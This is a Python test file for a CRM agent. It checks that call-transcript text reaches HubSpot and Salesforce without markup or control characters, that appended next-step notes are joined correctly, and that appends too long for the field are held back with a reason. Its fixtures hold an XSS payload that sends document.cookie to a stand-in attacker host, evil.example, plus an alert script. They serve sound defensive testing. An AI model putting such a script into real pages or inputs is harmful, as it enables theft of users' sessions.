"""What the CRM receives from a transcript is clean text, on both CRMs: no markup, no
control characters, appended notes that read well; the evidence stays as it was said."""

import json

import pytest

from crm_agents import tasks
from crm_agents.calls import CallIn
from crm_agents.models import AgentRun, FieldRule, RunStatus
from crm_agents.services import do_submit_call
from governance.review_models import ChangeProposal
from integrations.crm.clients import build_client
from integrations.sandbox import seed
from integrations.sandbox.models import ModelMode, SandboxRequest
from tests.agents.conftest import pricing_call

HOSTILE_LINE = (
    "Next step: <script>fetch('https://evil.example/?c='+document.cookie)</script> "
    "I will send the <b>order form</b>\x07 by Friday."
)


def _answer(next_step: str, evidence: str) -> dict:
    return {
        "updates": [
            {"field": "amount", "value": None, "evidence": "", "confidence": 0},
            {"field": "close_date", "value": None, "evidence": "", "confidence": 0},
            {"field": "next_step", "value": next_step, "evidence": evidence, "confidence": 0.9},
        ]
    }


def _process(world, call_id: str, line: str, next_step: str, evidence: str) -> AgentRun:
    world.model_account.model_mode = ModelMode.SCRIPTED
    world.model_account.save(update_fields=["model_mode"])
    content = json.dumps(_answer(next_step, evidence))
    seed.script_answer(world.model_account, f"{call_id}/hygiene", "extract", {"content": content})
    transcript = [{"speaker": "Riley Rep", "start": 55.8, "text": line}]
    payload = pricing_call(external_id=call_id, transcript=transcript)
    call, _ = do_submit_call(world.workspace, CallIn.model_validate(payload))
    tasks.process_call.delay(call.pk)
    return AgentRun.objects.get(call=call, workflow=world.workflow)


def _written_next_steps(world) -> list[str]:
    native = world.native("next_step")
    writes = SandboxRequest.objects.filter(account=world.account, kind="write").exclude(written={})
    return [
        values[native]
        for written in writes.values_list("written", flat=True)
        for values in written.values()
        if native in values
    ]


def test_it_writes_the_words_of_a_transcript_line_without_its_markup(world):
    evidence = "<script>fetch('https://evil.example/?c='+document.cookie)</script> I will send"
    run = _process(
        world,
        "html-1",
        HOSTILE_LINE,
        "<script>alert(1)</script> Send the <b>order form</b>\x07",
        evidence,
    )

    assert run.status == RunStatus.APPLIED, run.status_reason
    assert world.deal_value("next_step") == "Send the order form"
    assert _written_next_steps(world) == ["Send the order form"]
    proposal = ChangeProposal.objects.get(change_set__run=run, field="next_step")
    assert proposal.proposed_value == "Send the order form"
    assert proposal.evidence == evidence  # what was said, verbatim


def test_it_appends_a_note_on_a_line_of_its_own_or_after_a_divider(world):
    FieldRule.objects.filter(workflow=world.workflow, field="next_step").update(write_mode="append")
    client = build_client(
        world.provider,
        base_url=world.connection.api_base_url,
        access_token=world.connection.credentials.access_token,
    )
    client.update("deal", world.deal.crm_id, {world.native("next_step"): "Demo booked"})
    line = "Our main pain is reporting, so next step: a reporting workshop."

    run = _process(
        world, "append-1", line, "A reporting workshop", "next step: a reporting workshop"
    )

    assert run.status == RunStatus.APPLIED, run.status_reason
    # HubSpot's next step is a multi-line text field; Salesforce's NextStep is one line.
    joined = {
        "hubspot": "Demo booked\nA reporting workshop",
        "salesforce": "Demo booked | A reporting workshop",
    }
    assert world.deal_value("next_step") == joined[world.provider]


@pytest.mark.parametrize("world", ["salesforce"], indirect=True)
def test_an_append_the_field_cannot_hold_is_held_back_with_the_reason(world):
    """Salesforce's NextStep holds 255 characters (its describe's length, kept with the
    property cache): an append past it is not sent to fail at the CRM."""
    FieldRule.objects.filter(workflow=world.workflow, field="next_step").update(write_mode="append")
    client = build_client(
        world.provider,
        base_url=world.connection.api_base_url,
        access_token=world.connection.credentials.access_token,
    )
    held = ("Demo booked with the whole buying committee; " * 5) + "Legal joins next time."
    assert len(held) == 247
    client.update("deal", world.deal.crm_id, {world.native("next_step"): held})
    line = "Our main pain is reporting, so next step: a reporting workshop."

    run = _process(
        world, "append-2", line, "A reporting workshop", "next step: a reporting workshop"
    )

    assert world.deal_value("next_step") == held
    failures = SandboxRequest.objects.filter(account=world.account, kind="write", status=400)
    assert not failures.exists()
    decided = [d.get("reason", "") for d in run.decisions if isinstance(d, dict)]
    proposals = ChangeProposal.objects.filter(change_set__run=run)
    reasons = [*decided, *proposals.values_list("status_reason", flat=True)]
    too_long = "appending would make the value 270 characters; the field holds at most 255"
    assert any(too_long in reason for reason in reasons), reasons
